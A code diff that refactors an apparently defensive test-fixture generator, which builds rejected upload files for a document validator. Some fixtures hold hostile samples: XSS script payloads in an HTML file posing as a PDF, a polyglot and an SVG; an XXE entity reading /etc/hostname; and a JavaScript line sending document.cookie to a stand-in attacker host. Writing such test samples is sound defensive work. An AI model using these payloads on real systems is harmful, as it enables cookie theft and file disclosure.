@@ -40,6 +40,13 @@ def _p(path: str | Path) -> Path:
     return path
 
 
+def _write(path: str | Path, data: bytes) -> Path:
+    """``data`` written to ``path`` (its folder made first)."""
+    path = _p(path)
+    path.write_bytes(data)
+    return path
+
+
 # --------------------------------------------------------------------------------------------------------------
 # Good files
 # --------------------------------------------------------------------------------------------------------------
@@ -203,9 +210,7 @@ def make_odp(path: str | Path, slides: Sequence[Sequence[str]]) -> Path:
 
 def make_txt(path: str | Path, text: str, encoding: str = "utf-8") -> Path:
     """``encoding`` may be e.g. ``utf-8-sig`` or ``utf-16`` (Python writes the BOM for both)."""
-    path = _p(path)
-    path.write_bytes(text.encode(encoding))
-    return path
+    return _write(path, text.encode(encoding))
 
 
 def make_csv(path: str | Path, rows: Sequence[Sequence[object]], encoding: str = "utf-8") -> Path:
@@ -225,9 +230,7 @@ def make_csv(path: str | Path, rows: Sequence[Sequence[object]], encoding: str =
 
 
 def make_empty(path: str | Path) -> Path:
-    path = _p(path)
-    path.write_bytes(b"")
-    return path
+    return _write(path, b"")
 
 
 def make_truncated_pdf(path: str | Path) -> Path:
@@ -380,49 +383,43 @@ def make_zip(path: str | Path, members: dict[str, bytes] | None = None) -> Path:
 
 def make_html_as_pdf(path: str | Path) -> Path:
     """An HTML page saved under a .pdf name."""
-    path = _p(path)
-    path.write_bytes(
+    return _write(
+        path,
         b"<!DOCTYPE html>\n<html><head><title>Report</title></head>"
         b"<body><h1>Report</h1><script>alert(document.cookie)</script></body></html>\n"
     )
-    return path
 
 
 def make_polyglot_html_pdf(path: str | Path) -> Path:
     """HTML first, a PDF header on the next line: libmagic 5.44 calls this application/pdf."""
-    path = _p(path)
-    path.write_bytes(b"<html><body><script>alert(1)</script></body></html>\n%PDF-1.4\n")
-    return path
+    return _write(path, b"<html><body><script>alert(1)</script></body></html>\n%PDF-1.4\n")
 
 
 def make_svg(path: str | Path) -> Path:
-    path = _p(path)
-    path.write_bytes(
+    return _write(
+        path,
         b'<?xml version="1.0" encoding="UTF-8"?>\n'
         b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
         b'<script type="text/javascript">alert(1)</script><rect width="10" height="10"/></svg>\n'
     )
-    return path
 
 
 def make_xml(path: str | Path) -> Path:
-    path = _p(path)
-    path.write_bytes(
+    return _write(
+        path,
         b'<?xml version="1.0" encoding="UTF-8"?>\n'
         b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<r>&x;</r>\n'
     )
-    return path
 
 
 def make_js(path: str | Path) -> Path:
-    path = _p(path)
-    path.write_bytes(
+    return _write(
+        path,
         b"#!/usr/bin/env node\n"
         b'"use strict";\n'
         b"const secret = document.cookie;\n"
         b'fetch("https://attacker.invalid/?c=" + encodeURIComponent(secret));\n'
     )
-    return path
 
 
 def make_exe(path: str | Path) -> Path:
@@ -457,10 +454,8 @@ def make_png(path: str | Path, width: int = 4, height: int = 4) -> Path:
 
 def make_gif(path: str | Path) -> Path:
     """A 1x1 GIF (an image type that is not accepted: only PNG, JPEG and TIFF scans are)."""
-    path = _p(path)
-    path.write_bytes(b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
-                     b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
-    return path
+    return _write(path, b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
+                        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
 
 
 def make_many_tj_pdf(path: str | Path, operators: int = 200_000) -> Path:
